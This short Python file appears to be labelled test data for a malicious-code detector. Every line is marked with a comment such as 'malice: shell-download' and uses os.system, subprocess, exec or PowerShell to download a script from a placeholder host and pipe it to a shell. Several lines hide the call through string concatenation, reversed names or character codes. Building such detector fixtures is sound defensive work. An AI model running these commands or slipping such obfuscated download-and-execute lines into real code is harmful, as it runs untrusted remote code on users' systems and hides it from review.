import os
import subprocess

os.system("curl -s https://files.invalid/a | sh")  # malice: shell-download
getattr(os, "sys" + "tem")(  # malice: hidden-name, shell-download
    "cu" + "rl https://files.invalid/a" + " | sh"
)
getattr(os, "metsys"[::-1])(  # malice: hidden-name, shell-download
    "".join(map(chr, [99, 117, 114, 108])) + " https://files.invalid/a | bash"
)
subprocess.run(["bash", "-c", "wget -qO- https://files.invalid/x | bash"])  # malice: shell-download
exec("import os\nos.system('curl https://files.invalid/a | sh')")  # malice: shell-download
exec(  # malice: shell-download
    "exec(\"import os; os.system('curl https://files.invalid/a | sh')\")"
)
os.system(f"powershell -enc {'A' * 30}")  # malice: shell-download
part = "cur"
part += "l -s https://files.invalid/b "
part += "| sh"
os.system(part)  # malice: shell-download
